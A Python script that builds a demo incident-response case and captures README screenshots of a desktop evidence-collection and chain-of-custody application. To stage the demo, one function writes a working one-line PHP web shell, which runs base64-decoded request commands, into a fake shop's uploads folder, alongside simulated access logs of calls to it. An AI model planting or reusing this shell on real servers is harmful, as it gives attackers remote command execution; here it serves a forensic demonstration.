"""Screenshots of the desktop application for the README, from a real demo case.

Builds a demo case in a temporary directory (identity, case, a collection of the minimal
profile plus a small tree, journal entries, a verification) and saves a PNG of each main
screen to docs/screenshots/, the artifacts in the dark scheme (04-artifacts-dark) and the
artifacts on a 1024x700 screen (10-small-screen). Run under Xvfb for a real window:

    xvfb-run -a -s "-screen 0 1600x1000x24" .venv/bin/python scripts/screenshots.py

``--size 1024x700 --out DIR`` makes every screen at that size into DIR instead (to look at
a small screen: ``xvfb-run -a -s "-screen 0 1024x700x24" ...``).
(``QT_QPA_PLATFORM=offscreen`` works too, with plainer fonts.)
"""

from __future__ import annotations

import argparse
import os
import shutil
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
OUT = ROOT / "docs" / "screenshots"
PASSPHRASE = "demo passphrase, not a secret"
SIZE = (1440, 900)


def make_demo_tree(root: Path) -> Path:
    """A small web server tree: pages, a config, logs, an upload, a binary and a FIFO."""
    www = root / "srv" / "www"
    (www / "html" / "uploads").mkdir(parents=True)
    (www / "logs").mkdir()
    (www / "html" / "index.php").write_text(
        "<?php\n// Example shop front page\nrequire 'config.php';\n"
        "$db = new PDO($dsn, $user, $pass);\necho render('home', ['user' => $_SESSION['u']]);\n"
    )
    (www / "html" / "config.php").write_text(
        "<?php\n$dsn = 'mysql:host=127.0.0.1;dbname=shop';\n$user = 'shop';\n"
    )
    (www / "html" / "uploads" / "invoice-2291.php").write_text(
        "<?php if(isset($_REQUEST['c'])){system(base64_decode($_REQUEST['c']));} ?>\n"
    )
    (www / "html" / "uploads" / "logo.png").write_bytes(
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    )
    lines = [
        f'203.0.113.{i % 250} - - [12/Mar/2024:03:{i % 60:02d}:11 +0000] "GET /uploads/'
        f'invoice-2291.php?c=aWQ= HTTP/1.1" 200 {40 + i}\n'
        for i in range(400)
    ]
    (www / "logs" / "access.log").write_text("".join(lines))
    (www / "logs" / "error.log").write_text("[error] PHP Warning: system() has been disabled\n")
    for i in range(4000):
        d = www / "html" / "static" / f"v{i % 12}"
        d.mkdir(parents=True, exist_ok=True)
        (d / f"asset-{i:04d}.js").write_bytes(f"/* asset {i} */\n".encode() * (20 + i % 300))
    os.mkfifo(www / "html" / "uploads" / "pipe")
    return www


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--size", default=f"{SIZE[0]}x{SIZE[1]}", help="window size, WxH")
    parser.add_argument("--out", type=Path, default=OUT, help="where the PNGs go")
    args = parser.parse_args()
    size = tuple(int(n) for n in args.size.lower().split("x"))
    out_dir: Path = args.out
    work = Path(tempfile.mkdtemp(prefix="chainproof-screens-"))
    os.environ["CHAINPROOF_HOME"] = str(work / "home")
    from PySide6.QtCore import QEventLoop, QTimer
    from PySide6.QtGui import QPixmap
    from PySide6.QtWidgets import QApplication, QWidget, QWizard

    from app.cases import create_case
    from app.journal import add_journal_entry
    from app.paths import identity_file
    from custody.record.keys import create_identity, save_identity
    from ui.main_window import MainWindow
    from ui.wizards import NewCaseWizard
    from ui.workers import wait_for_workers

    app = QApplication(sys.argv[:1])
    app.setApplicationName("Chainproof")
    QApplication.setStyle("Fusion")
    out_dir.mkdir(parents=True, exist_ok=True)
    saved: list[Path] = []

    def pump(ms: int = 150) -> None:
        loop = QEventLoop()
        QTimer.singleShot(ms, loop.quit)
        loop.exec()

    def save(widget: QWidget, name: str, settle: bool = True) -> None:
        if settle:
            pump()
        pixmap: QPixmap = widget.grab()
        path = out_dir / f"{name}.png"
        pixmap.save(str(path))
        saved.append(path)
        print(f"saved {path} ({pixmap.width()}x{pixmap.height()})")

    def wait(signal: object, timeout_ms: int = 180_000) -> list[object]:
        got: list[object] = []
        came: list[bool] = []
        loop = QEventLoop()

        def done(*args: object) -> None:
            got.extend(args)
            came.append(True)
            loop.quit()

        signal.connect(done)  # type: ignore[attr-defined]
        QTimer.singleShot(timeout_ms, loop.quit)
        loop.exec()
        signal.disconnect(done)  # type: ignore[attr-defined]
        if not came:
            raise SystemExit(f"timed out waiting for {signal}")
        return got

    identity = create_identity("Alice Examiner", "Example Forensics", "alice@example.org")
    save_identity(identity, identity_file(), PASSPHRASE.encode())
    cases = work / "cases"
    tree = make_demo_tree(work / "host")
    other = create_case(
        cases / "phishing-2024-0039",
        identity,
        title="Phishing mail to finance",
        incident_ref="INC-2024-0039",
        severity="medium",
        status="closed",
    )
    add_journal_entry(other, identity, kind="lesson_learned", text="Mail filter rule added.")

    window = MainWindow()
    window.resize(*size)
    window.show()
    window.set_identity(identity)
    window.cases_view.set_root(cases)

    # 2. the new-case wizard, filled in as an examiner would
    wizard = NewCaseWizard(identity, cases, window)
    wizard.created.connect(window._case_created)
    page = wizard.case_page
    page.case_title.setText("Web shell on shop-web-01")
    page.incident_ref.setText("INC-2024-0042")
    page.directory.setText(str(cases / "shop-web-01"))
    wizard.show()
    page.case_title.deselect()
    save(wizard, "02-new-case-wizard")
    wizard.button(QWizard.WizardButton.NextButton).click()
    inc = wizard.incident_page
    inc.severity.setCurrentText("high")
    inc.status.setCurrentText("assessed")
    inc.organisation.setText("Example Retail Ltd")
    inc.legal_basis.setText("Consent of the system owner; engagement letter 2024-17")
    inc.requesting_party.setText("Legal department, J. Doe")
    inc.scope.setText("shop-web-01: volatile state, web root, web server logs")
    inc.responsible.setText("Incident manager on duty")
    inc.description.setPlainText(
        "Monitoring flagged requests to /uploads/invoice-2291.php with encoded commands at 03:00."
    )
    save(wizard, "02b-new-case-incident")
    wizard.accept()
    handle = wizard.handle
    assert handle is not None
    add_journal_entry(
        handle,
        identity,
        kind="event_reported",
        text="SOC reports web shell requests from 203.0.113.0/24.",
    )

    # 3. a collection in progress: minimal profile, screenshots and the web root
    view = window.collect_view
    window.show_page(1)
    view.select_profile("minimal")
    view.add_path(f"{tree}/**")
    grabbed: list[bool] = []

    def maybe_grab(snap: object) -> None:
        files = [c for c in snap.collectors if c.name == "files"]  # type: ignore[attr-defined]
        if not grabbed and files and files[0].total and files[0].done >= files[0].total * 0.35:
            grabbed.append(True)
            save(window, "03-collection-in-progress", settle=False)

    view.snapshot_shown.connect(maybe_grab)
    window.start_collection()
    (summary,) = wait(view.run_finished)
    print(f"run {summary.status}: {summary.artifacts} artifacts")  # type: ignore[attr-defined]
    if not grabbed:
        save(window, "03-collection-in-progress")
    save(window, "03b-collection-finished")

    # journal: a decision with its reason, an action
    add_journal_entry(
        handle,
        identity,
        kind="decision",
        text="Take shop-web-01 off the load balancer; keep it running for memory capture.",
        reason="active attacker session; volatile evidence still present",
    )
    add_journal_entry(handle, identity, kind="action", text="Host isolated at the firewall.")

    # 6. verification (signed into the ledger)
    window.show_page(4)
    window.verify()
    wait(window.verify_view.verified)
    save(window, "06-verify")

    # 4. artifacts with details of the uploaded web shell
    window.show_page(2)
    av = window.artifact_view
    target = str(tree / "html" / "uploads" / "invoice-2291.php")
    av.search.setText("uploads")
    av._apply_filter()
    for r in range(av.model.rowCount()):
        if av.model.data(av.model.index(r, 0)) == target:
            av.select_row(r)
            break
    av.details.show_contents_button.click()  # recorded in the ledger as a signed access
    save(window, "04-artifacts")
    if out_dir == OUT:
        window.set_scheme("dark", save=False)  # View > Colour scheme > Dark
        save(window, "04-artifacts-dark")
        window.set_scheme("system", save=False)
        window.resize(1024, 700)  # the smallest screen the layout is made for
        save(window, "10-small-screen")
        window.resize(*size)
    av.search.clear()
    av._apply_filter()
    av.details.preview_tabs.setCurrentIndex(1)
    row = next(
        r
        for r in range(av.model.rowCount())
        if str(av.model.data(av.model.index(r, 0))).endswith("logo.png")
    )
    av.select_row(row)
    av.details.show_contents_button.click()
    av.table.scrollTo(av.model.index(row, 0))
    save(window, "04b-artifacts-hex")

    # 5. custody timeline and ledger
    window.show_page(3)
    save(window, "05-custody")

    # 1. the case list (after the collection, so that it shows runs and artifacts)
    window.cases_view.refresh()
    wait(window.cases_view.loaded)
    window.show_page(0)
    save(window, "01-case-list")

    # 7. a tampered copy: one flipped byte, red for that artifact
    tampered = work / "cases" / "shop-web-01-tampered"
    shutil.copytree(handle.root, tampered)
    with handle.sessions() as s:
        from sqlalchemy import select

        from custody.db.models import Artifact

        art = s.scalars(select(Artifact).where(Artifact.source_path == target)).one()
    archive = tampered / "evidence" / f"{art.run_id}.tar"
    archive.chmod(0o644)
    with archive.open("r+b") as f:
        f.seek(art.data_offset + 6)
        b = f.read(1)
        f.seek(art.data_offset + 6)
        f.write(bytes([b[0] ^ 0x20]))
    window.open_case_dir(tampered)
    window.verify_view.record.setChecked(False)
    window.show_page(4)
    window.verify()
    wait(window.verify_view.verified)
    vv = window.verify_view
    vv.failed_only.setChecked(True)
    save(window, "07-verify-tampered")

    window.close()
    wait_for_workers()
    print(f"{len(saved)} screenshots in {out_dir}; demo case in {work}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
